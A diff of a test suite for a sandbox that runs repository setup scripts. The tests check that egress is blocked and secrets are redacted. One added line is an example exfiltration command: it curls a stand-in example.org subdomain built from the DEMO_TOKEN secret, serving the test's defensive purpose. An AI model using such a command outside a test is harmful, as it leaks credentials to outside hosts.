@@ -230,9 +230,11 @@ describe("egress, secrets and the host", () => {
       repoUrl: repo.url,
       defaultBranch: "main",
       setupScript: [
-        'test "$DEMO_TOKEN" = "' + SECRET + '"',
+        `test "$DEMO_TOKEN" = "${SECRET}"`,
         'echo "setup sees the token: $DEMO_TOKEN"',
         "curl -sS -m 10 -o /dev/null https://example.com && echo 'example.com reachable' || echo 'example.com refused'",
+        // A hostile script could name a host after the secret: the refused host is stored redacted.
+        'curl -sS -m 10 -o /dev/null "http://$DEMO_TOKEN.example.org/" || true',
         "npm view is-number version --fetch-retries=0",
         probeHost(hostPort),
         "mkdir -p node_modules && echo installed > node_modules/marker",
@@ -258,7 +260,7 @@ describe("egress, secrets and the host", () => {
     const created = await createTask(userId, { environmentId: environment.id, prompt: "[[script:look-for-secret]] Look around" });
     const task = await finishedTask(created.id, created.attemptId);
     expect(task.attempt?.error).toBeNull();
-    expect(task.attempt?.setup).toMatchObject({ cache: "miss", blocked: ["example.com"] });
+    expect(task.attempt?.setup).toMatchObject({ cache: "miss", blocked: ["example.com", "[redacted:DEMO_TOKEN].example.org"] });
 
     const events = await eventsText(created.id);
     const setupOutput = await shellOutputs(created.id, "setup", "stdout");
